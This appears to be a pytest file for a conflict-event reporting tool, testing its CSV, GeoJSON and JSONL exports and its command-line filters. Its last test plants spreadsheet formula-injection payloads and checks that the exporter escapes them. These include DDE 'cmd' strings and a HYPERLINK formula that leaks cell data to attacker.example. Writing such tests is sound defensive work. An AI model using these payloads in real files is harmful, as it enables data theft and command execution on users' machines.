"""Exports: ACLED-column CSV that pandas loads, valid GeoJSON, JSON Lines; the `events` command."""

import io
import json
import subprocess
import sys

import pandas as pd
import pytest

from sitrep.export import ACLED_COLUMNS, CSV_COLUMNS, country_codes, export_string, region_of
from sitrep.model import Event, Evidence, Report
from sitrep.store import Store


def ev(loc, lat, lon, date, country="Syria", admin1="Homs", fat=None, a2="Islamic State",
       et="Battles", sub="Armed clash", line=1):
    return Event(
        event_id="E", doc_id="d", event_date=date, event_type=et, sub_event_type=sub,
        actor1="Military Forces of Syria", inter1=1, actor2=a2, inter2=2 if a2 != "Civilians (Syria)" else 7,
        country=country, admin1=admin1, location=loc, latitude=lat, longitude=lon, geo_precision=1,
        fatalities=fat, injured=None, source=None, attribution="local sources",
        notes=f"Fighting near {loc}, \"heavy\" losses reported.", confidence=0.7,
        evidence=[Evidence(line=line, text=f"Clashes, near {loc}.\nSecond line")],
    )


@pytest.fixture()
def store(tmp_path):
    s = Store(tmp_path / "x.duckdb")
    a = Report(text="report one", doc_id="one", date="2017-07-22", source="FNA")
    b = Report(text="report two", doc_id="two", date="2017-07-22", source="SOHR")
    s.add_report(a, [ev("As Sukhnah", 34.885, 38.871, "2017-07-22", fat=30),
                     ev("Arsal", 34.179, 36.421, "2017-07-21", country="Lebanon", admin1="Baalbek-Hermel")])
    s.add_report(b, [ev("Sukhnah", 34.89, 38.87, "2017-07-22", fat=12),
                     ev("Humeimeh", None, None, "2017-07-20", a2="Civilians (Syria)",
                        et="Violence against civilians", sub="Attack", fat=0)])
    s.release()
    return s


def test_country_codes_and_regions():
    assert country_codes("Syria") == ("SY", "SYR", 760)
    assert country_codes("Turkey")[2] == 792
    assert region_of("Lebanon") == "Middle East"
    assert region_of("Nigeria") == "Western Africa"
    assert region_of("Ukraine") == "Europe"
    assert country_codes("Atlantis") is None and region_of(None) is None


def test_csv_loads_in_pandas_with_acled_columns(store):
    df = pd.read_csv(io.StringIO(export_string(store.events(), "csv")))
    assert tuple(df.columns) == CSV_COLUMNS
    assert tuple(df.columns[: len(ACLED_COLUMNS)]) == ACLED_COLUMNS
    assert len(df) == 3
    clash = df[df.corroboration == 2].iloc[0]
    assert clash.fatalities == 12 and "range from 12 to 30" in clash.notes
    assert clash.source == "FNA; SOHR" and clash.iso == 760 and clash.region == "Middle East"
    assert clash.year == 2017 and clash.interaction == 12
    lebanon = df[df.country == "Lebanon"].iloc[0]
    assert lebanon.iso == 422 and lebanon.admin1 == "Baalbek-Hermel"
    vac = df[df.event_type == "Violence against civilians"].iloc[0]
    assert vac.civilian_targeting == "Civilian targeting" and vac.fatalities == 0
    assert pd.isna(vac.latitude)
    assert (df.timestamp > 1_500_000_000).all()
    assert list(df.event_date) == sorted(df.event_date)


def test_geojson_is_a_valid_feature_collection(store):
    doc = json.loads(export_string(store.events(), "geojson"))
    assert doc["type"] == "FeatureCollection" and len(doc["features"]) == 3
    for f in doc["features"]:
        assert f["type"] == "Feature" and isinstance(f["properties"], dict)
        g = f["geometry"]
        if f["properties"]["latitude"] is None:
            assert g is None
            continue
        assert g["type"] == "Point"
        lon, lat = g["coordinates"]
        assert (lon, lat) == (f["properties"]["longitude"], f["properties"]["latitude"])
        assert -180 <= lon <= 180 and -90 <= lat <= 90
    arsal = next(f for f in doc["features"] if f["properties"]["location"] == "Arsal")
    assert arsal["geometry"]["coordinates"] == [36.421, 34.179]  # GeoJSON is [lon, lat]


def test_jsonl_carries_merge_provenance(store):
    rows = [json.loads(line) for line in export_string(store.events(), "jsonl").splitlines()]
    clash = next(r for r in rows if r["corroboration"] == 2)
    assert clash["sources"] == ["FNA", "SOHR"] and clash["fatalities_range"] == [12, 30]
    assert {e["source"] for e in clash["evidence"]} == {"FNA", "SOHR"}
    assert clash["iso"] == 760


def run(*args):
    return subprocess.run([sys.executable, "-m", "sitrep", *args], capture_output=True, text=True, timeout=60)


def test_events_command_filters_and_formats(store, tmp_path):
    db = store.path
    r = run("events", "--db", db, "--country", "LBN")
    assert r.returncode == 0, r.stderr
    assert [json.loads(x)["location"] for x in r.stdout.splitlines()] == ["Arsal"]
    # The store's newest day is 2017-07-22, long before today: --since counts back from it.
    r = run("events", "--db", db, "--since", "24h", "--format", "csv")
    assert r.returncode == 0, r.stderr
    df = pd.read_csv(io.StringIO(r.stdout))
    assert sorted(df.event_date) == ["2017-07-21", "2017-07-22"]
    out = tmp_path / "e.geojson"
    r = run("events", "--db", db, "--type", "Battles", "--format", "geojson", "-o", str(out))
    assert r.returncode == 0 and r.stdout == ""
    feats = json.loads(out.read_text())["features"]
    assert len(feats) == 2 and {f["properties"]["event_type"] for f in feats} == {"Battles"}


@pytest.mark.parametrize("args,needle", [
    (["--format", "xml"], "unsupported --format"),
    (["--since", "yesterday"], "invalid --since"),
    (["--from", "22/07/2017"], "invalid date"),
    (["--db", "/nonexistent/dir/x.duckdb"], "no store here"),
])
def test_events_command_bad_input_is_one_line(store, args, needle):
    r = run("events", "--db", store.path, *args) if "--db" not in args else run("events", *args)
    assert r.returncode != 0
    assert needle in r.stderr and len(r.stderr.strip().splitlines()) == 1
    assert "Traceback" not in r.stderr


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path):
    import csv

    from fastapi.testclient import TestClient

    from sitrep.web import create_app

    s = Store(tmp_path / "f.duckdb")
    bad = ev("=cmd|' /C calc'!A0", 34.1, -5.25, "2017-07-22", fat=3, a2="@SUM(1+1)*cmd|' /C calc'!A0")
    bad.notes = "-2+3+cmd|' /C calc'!A0"
    bad.attribution = "\tlocal sources"
    s.add_report(Report(text="report three", doc_id="three", date="2017-07-22",
                        source='=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'), [bad])
    s.release()
    for text in (export_string(s.events(), "csv"),
                 TestClient(create_app(tmp_path / "f.duckdb"), base_url="http://localhost").get("/api/events.csv").text):
        [row] = list(csv.DictReader(io.StringIO(text)))
        assert row["source"] == """'=HYPERLINK("http://attacker.example/?leak="&A1,"Click")"""
        assert row["location"] == "'=cmd|' /C calc'!A0" and row["actor2"].startswith("'@SUM")
        assert row["notes"].startswith("'-2+3") and row["attribution"] == "'\tlocal sources"
        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for k, v in row.items() if k != "longitude")
        # Genuine numbers stay numbers: a negative longitude is not text.
        assert row["longitude"] == "-5.25" and row["fatalities"] == "3" and row["latitude"] == "34.1"
    df = pd.read_csv(io.StringIO(text))
    assert df.longitude.dtype.kind == "f" and df.longitude.iloc[0] == -5.25
